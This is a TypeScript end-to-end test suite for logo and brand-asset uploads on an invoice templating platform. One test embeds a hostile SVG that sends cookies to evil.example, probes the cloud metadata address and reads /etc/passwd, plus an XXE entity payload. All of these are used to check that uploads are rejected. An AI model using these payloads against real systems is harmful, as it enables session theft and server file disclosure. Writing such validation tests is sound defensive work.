import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { findColour, pdfPageRaster } from './support/pdf/poppler';
import { fixture } from './support/fixtures';
import { solidPng } from './support/solid-png';
import { REPO_ROOT, startTestPlatform, TestPlatform } from './support/test-platform';
import { bytesBody } from './support/http-body';

type Content = Record<string, any>;

/** A PNG, as mail clients show no SVG in email. */
const BUILT_IN_LOGO = readFileSync(path.join(REPO_ROOT, 'templates/_assets/logo.png'));
/** The built-in logo's tile colour, which nothing else on an invoice uses. */
const LOGO_TEAL = [0x1f, 0xb5, 0xac] as const;
/** A rebrand: a red tile. */
const NEW_LOGO = solidPng(48, 48, [0xd0, 0x34, 0x2c]);
const GMAIL_CLIP_BYTES = 102 * 1024;

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const dataUri = (type: string, bytes: Buffer) => `data:${type};base64,${bytes.toString('base64')}`;

describe('brand assets (e2e)', () => {
  let platform: TestPlatform;
  let author: string;
  let reviewer: string;
  let otherReviewer: string;
  let billing: string;
  const auth = (key: string) => ({ Authorization: `Bearer ${key}` });

  beforeAll(async () => {
    platform = await startTestPlatform();
    [author, reviewer, otherReviewer, billing] = await Promise.all([
      platform.keyFor('author'),
      platform.keyFor('reviewer'),
      platform.keyFor('reviewer'),
      platform.keyFor('billing'),
    ]);
  });
  afterAll(() => platform.close());

  const upload = (key: string, body: Record<string, unknown>) => platform.http.post('/v1/assets').set(auth(key)).send(body);
  const bytesOf = (request: ReturnType<TestPlatform['http']['get']>) =>
    request.buffer(true).parse(bytesBody);
  const templateContent = async (n: number): Promise<Content> => (await platform.http.get(`/v1/templates/invoice/versions/${n}`).set(auth(author)).expect(200)).body;
  const draftInvoice = (from: number, edit: (content: Content) => void) =>
    templateContent(from).then((content) => {
      edit(content);
      return platform.http.post(`/v1/templates/invoice/versions?from=${from}`).set(auth(author)).send(content);
    });
  const postDocument = async (file: string, externalRef: string) =>
    (await platform.http.post('/v1/documents').set(auth(billing)).send({ ...fixture(file), externalRef }).expect(201)).body as { id: string; template: { version: number } };
  const email = async (id: string) => (await platform.http.get(`/v1/documents/${id}/renditions/email`).set(auth(billing)).expect(200)).text;
  const pdf = async (id: string) => (await bytesOf(platform.http.get(`/v1/documents/${id}/renditions/pdf`).set(auth(billing))).expect(200)).body as Buffer;

  it('ships the Northwind Fiber logo as version 1 of "logo", readable by authors and reviewers', async () => {
    const list = await platform.http.get('/v1/assets').set(auth(author)).expect(200);
    expect(list.body).toEqual([
      expect.objectContaining({ name: 'logo', version: 1, contentType: 'image/png', sha256: sha256(BUILT_IN_LOGO), size: BUILT_IN_LOGO.length, createdBy: 'system:built-in' }),
    ]);
    const detail = await platform.http.get('/v1/assets/logo').set(auth(reviewer)).expect(200);
    expect(detail.body).toMatchObject({ name: 'logo', latest: { version: 1 }, versions: [{ version: 1 }] });
    const content = await bytesOf(platform.http.get('/v1/assets/logo/content').set(auth(author))).expect(200);
    expect(content.headers['content-type']).toMatch(/^image\/png/);
    expect(content.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
    expect(content.headers['x-content-type-options']).toBe('nosniff');
    expect(content.body.equals(BUILT_IN_LOGO)).toBe(true);
    await platform.http.get('/v1/assets').set(auth(billing)).expect(403);
    await platform.http.get('/v1/assets/nothing-here').set(auth(author)).expect(404);
  });

  it('stores an upload by an author as a new version, once per distinct file, and audits it', async () => {
    const first = solidPng(4, 2, [200, 30, 90]);
    const created = await upload(author, { name: 'promo-banner', contentType: 'image/png', data: first.toString('base64') }).expect(201);
    expect(created.headers.location).toBe('/v1/assets/promo-banner');
    expect(created.body).toMatchObject({ name: 'promo-banner', version: 1, sha256: sha256(first), size: first.length, inlineBytes: dataUri('image/png', first).length });
    // The same file again (a retried request) stores nothing.
    expect((await upload(author, { name: 'promo-banner', contentType: 'image/png', data: first.toString('base64') }).expect(200)).body).toMatchObject({ version: 1 });
    const second = solidPng(4, 2, [20, 30, 190]);
    await upload(author, { name: 'promo-banner', contentType: 'image/png', data: second.toString('base64') }).expect(201);

    const list = await platform.http.get('/v1/assets').set(auth(author)).expect(200);
    expect(list.body.map((asset: { name: string; version: number }) => [asset.name, asset.version])).toEqual([
      ['logo', 1],
      ['promo-banner', 2],
    ]);
    const versions = await platform.http.get('/v1/assets/promo-banner').set(auth(author)).expect(200);
    expect(versions.body.versions.map((version: { sha256: string }) => version.sha256)).toEqual([sha256(second), sha256(first)]);
    expect((await bytesOf(platform.http.get('/v1/assets/promo-banner/content?version=1').set(auth(author))).expect(200)).body.equals(first)).toBe(true);
    expect((await bytesOf(platform.http.get('/v1/assets/promo-banner/content').set(auth(author))).expect(200)).body.equals(second)).toBe(true);

    const audit = await platform.http.get('/v1/audit?action=asset.uploaded').set(auth(reviewer)).expect(200);
    expect(audit.body.map((entry: { subject: { id: string }; details: { version: number } }) => [entry.subject.id, entry.details.version])).toEqual([
      ['promo-banner', 1],
      ['promo-banner', 2],
    ]);
  });

  it('refuses a wrong type, an oversized file and a hostile SVG with pointers (422), and a billing key (403)', async () => {
    const png = solidPng(1, 1, [0, 0, 0]);
    const type = await upload(author, { name: 'badge', contentType: 'text/html', data: png.toString('base64') }).expect(422);
    expect(type.body).toMatchObject({ code: 'validation_failed', errors: [{ pointer: '/contentType', message: expect.stringMatching(/image\/png/) }] });

    const gif = Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(20)]);
    const mismatch = await upload(author, { name: 'badge', contentType: 'image/png', data: gif.toString('base64') }).expect(422);
    expect(mismatch.body.errors).toEqual([{ pointer: '/data', message: 'is a GIF image, not a PNG image (image/png)' }]);

    const huge = Buffer.concat([png, Buffer.alloc(300 * 1024)]);
    const oversized = await upload(author, { name: 'badge', contentType: 'image/png', data: huge.toString('base64') }).expect(422);
    expect(oversized.body.errors).toEqual([{ pointer: '/data', message: expect.stringMatching(/256 KB/) }]);

    const hostile = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(document.cookie)">' +
        '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
        '<image xlink:href="http://169.254.169.254/latest/meta-data/" width="1" height="1"/>' +
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="file:///etc/passwd"/></foreignObject></svg>',
    );
    const refused = await upload(author, { name: 'badge', contentType: 'image/svg+xml', data: hostile.toString('base64') }).expect(422);
    const messages = (refused.body.errors as Array<{ pointer: string; message: string }>).map((error) => {
      expect(error.pointer).toBe('/data');
      return error.message;
    });
    expect(messages).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/event handler attribute onload/),
        expect.stringMatching(/<script> element/),
        expect.stringMatching(/xlink:href="http:\/\/169\.254\.169\.254.*refers to another file/),
        expect.stringMatching(/<foreignObject> element/),
      ]),
    );
    const entity = Buffer.from('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>');
    const doctype = await upload(author, { name: 'badge', contentType: 'image/svg+xml', data: entity.toString('base64') }).expect(422);
    expect(doctype.body.errors[0]).toMatchObject({ pointer: '/data', message: expect.stringMatching(/DOCTYPE/) });

    const names = await upload(author, { name: 'Logo!', contentType: 'image/png', data: 'not base64!' }).expect(422);
    expect(names.body.errors).toEqual([
      { pointer: '/name', message: expect.stringMatching(/lowercase/) },
      { pointer: '/data', message: expect.stringMatching(/base64/) },
    ]);
    expect((await upload(author, { name: 'badge', contentType: 'image/png' }).expect(422)).body.errors).toEqual([expect.objectContaining({ pointer: '/data' })]);

    await upload(billing, { name: 'badge', contentType: 'image/png', data: png.toString('base64') }).expect(403);
    expect((await platform.http.get('/v1/assets').set(auth(author)).expect(200)).body.map((asset: { name: string }) => asset.name)).not.toContain('badge');
  });

  it("keeps the logo a locked block inlines to reviewers, as the block's own wording is", async () => {
    const refused = await upload(author, { name: 'logo', contentType: 'image/png', data: NEW_LOGO.toString('base64') }).expect(403);
    expect(refused.body).toMatchObject({ code: 'forbidden', detail: expect.stringMatching(/locked block "sender-identity"/) });
  });

  it('captures the logo by hash when a draft is saved; a newer upload leaves documents of the published version alone', async () => {
    const v1 = await templateContent(1);
    expect(v1.assets).toEqual({ logo: { sha256: sha256(BUILT_IN_LOGO), contentType: 'image/png', size: BUILT_IN_LOGO.length } });

    // A forged capture is refused; an asset nobody uploaded is refused where it is used.
    const forged = await draftInvoice(1, (c) => (c.assets.logo.sha256 = '0'.repeat(64))).then((res) => res.body);
    expect(forged).toMatchObject({ code: 'validation_failed', errors: [{ pointer: '/assets/logo' }] });
    const unknown = await draftInvoice(1, (c) => (c.channels.pdf.html = c.channels.pdf.html.replace('</body>', '<img src="{{asset "mascot"}}" alt=""></body>'))).then((res) => res.body);
    expect(unknown).toMatchObject({ code: 'template_invalid', errors: [{ pointer: '/channels/pdf/html', message: expect.stringMatching(/\{\{asset "mascot"\}\} at line \d+, column \d+ names no uploaded asset/) }] });

    // The template itself inlines the logo too (a watermark in the PDF); the platform captures it, whatever was posted.
    const draft = await draftInvoice(1, (c) => {
      delete c.assets;
      c.channels.pdf.html = c.channels.pdf.html.replace('</body>', '<img src="{{asset \'logo\'}}" alt="" style="position: fixed; bottom: 0; opacity: .08; width: 30mm"></body>');
    });
    expect(draft.status).toBe(201);
    const v2 = draft.body.number as number;
    expect((await templateContent(v2)).assets).toEqual(v1.assets);
    await platform.http.post(`/v1/templates/invoice/versions/${v2}/submit`).set(auth(author)).expect(200);
    await platform.http.post(`/v1/templates/invoice/versions/${v2}/approve`).set(auth(reviewer)).send({ publish: true }).expect(200);

    const before = await postDocument('invoice-en-us.json', 'ASSETS-BEFORE');
    expect(before.template.version).toBe(v2);
    const builtIn = dataUri('image/png', BUILT_IN_LOGO);
    const html = await email(before.id);
    expect(html).toContain('data:image/png;base64,');
    expect(html).toContain(`src="${builtIn}"`);
    const view = await platform.http.get(`/v1/documents/${before.id}`).set(auth(billing)).expect(200);
    expect(view.body.renditions.email.metadata).toMatchObject({ clipped: false });
    expect(view.body.renditions.email.metadata.htmlBytes).toBeLessThan(GMAIL_CLIP_BYTES * 0.5);

    // A reviewer rebrands; the published version keeps the logo it was approved with.
    const rebrand = await upload(otherReviewer, { name: 'logo', contentType: 'image/png', data: NEW_LOGO.toString('base64') }).expect(201);
    expect(rebrand.body).toMatchObject({ version: 2, sha256: sha256(NEW_LOGO) });
    const after = await postDocument('invoice-en-us.json', 'ASSETS-AFTER-REBRAND');
    expect(after.template.version).toBe(v2);
    for (const id of [before.id, after.id]) {
      const rendered = await email(id);
      expect(rendered).toContain(builtIn);
      expect(rendered).not.toContain(NEW_LOGO.toString('base64'));
    }

    // The next version takes the new logo, and the reviewer sees it in the diff.
    const v3 = (await draftInvoice(v2, () => undefined)).body.number as number;
    expect((await templateContent(v3)).assets.logo).toEqual({ sha256: sha256(NEW_LOGO), contentType: 'image/png', size: NEW_LOGO.length });
    const diff = await platform.http.get(`/v1/templates/invoice/versions/${v2}/diff/${v3}`).set(auth(reviewer)).expect(200);
    expect(diff.body.sources).toEqual([expect.objectContaining({ pointer: '/assets/logo', change: 'changed', diff: expect.stringContaining(`+sha256: ${sha256(NEW_LOGO)}`) })]);
  });

  it("prints the logo in the document's PDF from its data: URL, at the start of the header in either direction, fetching nothing", async () => {
    for (const [file, side] of [
      ['invoice-en-us.json', 'left'],
      ['invoice-ar-sa.json', 'right'],
    ] as const) {
      const { id } = await postDocument(file, `ASSETS-PDF-${side}`);
      const page = await pdfPageRaster(await pdf(id), 1, 72);
      const logo = findColour(page, LOGO_TEAL);
      // The 25 pt tile of the header; the faint watermark of this version is not this colour.
      expect({ file, enough: logo.count > 300 }).toEqual({ file, enough: true });
      expect({ file, top: logo.bottom < page.height * 0.2 }).toEqual({ file, top: true });
      const onStartSide = side === 'left' ? logo.right < page.width / 3 : logo.left > (page.width * 2) / 3;
      expect({ file, side, onStartSide }).toEqual({ file, side, onStartSide: true });
      const view = await platform.http.get(`/v1/documents/${id}`).set(auth(billing)).expect(200);
      expect(view.body.renditions.pdf).toMatchObject({ status: 'ready' });
      expect(view.body.renditions.pdf.metadata.blockedRequests).toBeUndefined();
    }
  });
});
